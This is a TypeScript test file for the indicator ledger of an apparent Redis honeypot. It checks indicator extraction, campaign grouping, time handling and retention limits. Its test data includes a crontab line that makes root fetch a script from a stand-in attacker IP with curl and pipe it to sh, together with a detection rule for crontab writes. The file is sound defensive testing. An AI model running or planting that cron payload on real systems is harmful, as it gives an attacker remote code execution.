import { describe, expect, test } from 'vitest';
import type { CampaignMatcher } from '../detect/campaigns.ts';
import { createDetector } from '../detect/detector.ts';
import { loadRules } from '../detect/rules.ts';
import type { Act } from '../model/act.ts';
import type { Ledger, LedgerLimits } from './ledger.ts';
import { createLedger } from './ledger.ts';

const RULE = `
id: test.cron
title: A crontab line of the test
severity: high
stage: execution
attack: [T1053.003]
why: The test needs a rule that holds on one value and not on another.
advice: Nothing has to be done about a test, so this says nothing.
any: [{ act: redis.value, where: { value: { contains: '* * * *' } } }]
examples:
  match: [{ shows: a line, acts: [{ redis.value: { value: '* * * * * id' } }] }]
  miss: [{ shows: no line, acts: [{ redis.value: { value: hello } }] }]
`;
const noCampaigns: CampaignMatcher = { keyNames: [], signs: () => [], named: () => [] };

function world(limits: Partial<LedgerLimits> = {}, campaigns = noCampaigns) {
  const { rules, faults } = loadRules([{ path: 'test.yaml', text: RULE }]);
  expect(faults).toEqual([]);
  const detector = createDetector(rules);
  const ledger = createLedger({ campaigns, limits });
  let sequence = 0;
  const visit = (session: string, address: string, ...acts: Act[]): void =>
    visitAt(0, session, address, ...acts);
  const visitAt = (start: number, session: string, address: string, ...acts: Act[]): void => {
    for (const act of acts) {
      const event = {
        id: `j-${sequence++}`,
        time: start + sequence * 1_000,
        vantage: 'sensor' as const,
        sensor: 's',
        session,
        peer: { address, port: 1 },
        act,
      };
      const { findings, held } = detector.observe(event);
      ledger.observe(event, findings, held);
    }
  };
  return { ledger, visit, visitAt };
}
const value = (key: string, text: string): Act => ({
  type: 'redis.value',
  db: 0,
  key,
  kind: 'string',
  value: text,
});
const CRON = '\n* * * * * root curl http://203.0.113.9/a.sh | sh\n';
const kinds = (ledger: Ledger): string[] =>
  ledger.indicators().map(({ kind, value: text }) => `${kind} ${text}`);

describe('ledger', () => {
  test('learns from an attack what was written before the finding as well', () => {
    const { ledger, visit } = world();

    visit('a', '198.51.100.1', value('zk9-marker', 'mark-77812'), value('zk9-loader', CRON));

    expect(kinds(ledger)).toEqual(
      expect.arrayContaining([
        'key zk9-marker',
        'key zk9-loader',
        'url http://203.0.113.9/a.sh',
        'address 203.0.113.9',
        'address 198.51.100.1',
      ]),
    );
  });

  test('goes by the times of events, also when the past is told later than the present', () => {
    const { ledger, visit, visitAt } = world({ recent: 2 });

    visitAt(5_000_000, 'now', '198.51.100.1', value('k', CRON), value('k', '2'));
    visit('then', '198.51.100.1', value('k', CRON), value('k', '2'), value('k', '3'));
    visitAt(-5_000, 'then', '198.51.100.1', value('k', '4'));

    expect(ledger.recent().map(({ session }) => session)).toEqual(['now', 'now']);
    expect(ledger.session('then')).toMatchObject({ opened: 1_000, lastSeen: 5_000 });
    expect(ledger.sources()[0]).toMatchObject({ firstSeen: 1_000, lastSeen: 5_002_000, sessions: 2 });
    const [url] = ledger.indicators().filter(({ kind }) => kind === 'url');
    expect(url).toMatchObject({ firstSeen: 3_000, lastSeen: 5_001_000 });
  });

  test('learns nothing from a visit without an attack', () => {
    const { ledger, visit } = world();

    visit('a', '198.51.100.1', value('zk9-marker', 'mark-77812'));

    expect(ledger.indicators()).toEqual([]);
  });

  test('is surer of what a rule held on than of what was written beside it', () => {
    const { ledger, visit } = world();

    visit(
      'a',
      '198.51.100.1',
      value('zk9-loader', CRON),
      value('zk9-marker', 'mark-77812'),
      value('test', 'ok'),
    );

    const sure = (kind: string, sample: string): number | undefined =>
      ledger.indicators().find((one) => one.kind === kind && one.sample?.includes(sample))?.confidence;
    expect(sure('value', 'curl')).toBeGreaterThan(sure('value', 'mark-77812') ?? 1);
    expect(sure('value', 'mark-77812')).toBeGreaterThan(sure('value', 'ok') ?? 1);
    expect(sure('key', 'test')).toBeLessThan(0.3);
  });

  test('counts sightings, sessions and sources of an indicator', () => {
    const { ledger, visit } = world();

    visit('a', '198.51.100.1', value('zk9-loader', CRON));
    visit('b', '198.51.100.2', value('zk9-loader', CRON), value('zk9-loader', CRON));

    expect(ledger.indicators().find(({ kind }) => kind === 'url')).toMatchObject({
      sightings: 3,
      sessions: ['a', 'b'],
      sources: ['198.51.100.1', '198.51.100.2'],
      rules: ['test.cron'],
      firstSeen: 1_000,
      lastSeen: 3_000,
    });
  });

  test('ties sessions that share a strong indicator, and only these', () => {
    const { ledger, visit } = world();
    const other = CRON.replace('203.0.113.9', '203.0.113.200');

    visit('a', '198.51.100.1', value('k1-aaaa', CRON));
    visit('b', '198.51.100.2', value('k2-bbbb', CRON));
    visit('c', '198.51.100.3', value('k1-aaaa', other));

    const campaigns = ledger.campaigns();
    expect(campaigns.map(({ sessions }) => sessions)).toEqual(expect.arrayContaining([['a', 'b'], ['c']]));
    expect(campaigns.flatMap(({ reasons }) => reasons)).toContain(
      'url http://203.0.113.9/a.sh in 2 sessions',
    );
    expect(ledger.session('a')?.campaign).toBe(ledger.session('b')?.campaign);
    expect(ledger.session('a')?.campaign).not.toBe(ledger.session('c')?.campaign);
  });

  test('gives a group the name of the known campaign whose marks it bears', () => {
    const known: CampaignMatcher = {
      keyNames: [],
      signs: (act) =>
        act.type === 'redis.value' && act.key === 'backup1'
          ? [{ campaign: 'known', title: 'Known', sign: 'key', because: 'key: backup1', strong: true }]
          : [],
      named: (signs) => signs.map(({ campaign, title, because }) => ({ id: campaign, title, because })),
    };
    const { ledger, visit } = world({}, known);

    visit('a', '198.51.100.1', value('backup1', CRON));
    visit('b', '198.51.100.2', value('other', CRON));

    expect(ledger.campaigns()).toMatchObject([{ id: 'known', known: true, sessions: ['a', 'b'] }]);
    expect(ledger.sources().map(({ campaigns }) => campaigns)).toEqual([['known'], ['known']]);
  });

  test('counts attacks and techniques in a span of time', () => {
    const { ledger, visit } = world();

    visit('a', '198.51.100.1', value('k-aaaa', CRON));
    visit('b', '198.51.100.1', value('k-aaaa', CRON));
    visit('c', '198.51.100.2', value('plain', 'text'));

    expect(ledger.study(0, 10_000)).toMatchObject({
      sources: 2,
      sessions: 3,
      attacks: 2,
      attackers: 1,
      techniques: [{ technique: 'T1053.003', attacks: 2, sources: 1 }],
      rules: [{ rule: 'test.cron', attacks: 2, sources: 1 }],
    });
    expect(ledger.study(3_000, 10_000)).toMatchObject({ sessions: 1, attacks: 0 });
  });

  test('forgets the oldest beyond its limits, and goes on counting', () => {
    const { ledger, visit } = world({ sessions: 10, sources: 5, recent: 20 });

    for (let at = 0; at < 100; at++) visit(`s${at}`, `198.51.100.${at}`, value('plain', 'text'));

    expect(ledger.sessions().map(({ id }) => id)).toEqual(
      Array.from({ length: 10 }, (_, at) => `s${90 + at}`),
    );
    expect(ledger.sources()).toHaveLength(5);
    expect(ledger.recent()).toHaveLength(20);
    expect(ledger.totals).toMatchObject({ sessions: 100, sources: 100, events: 100 });
  });
});
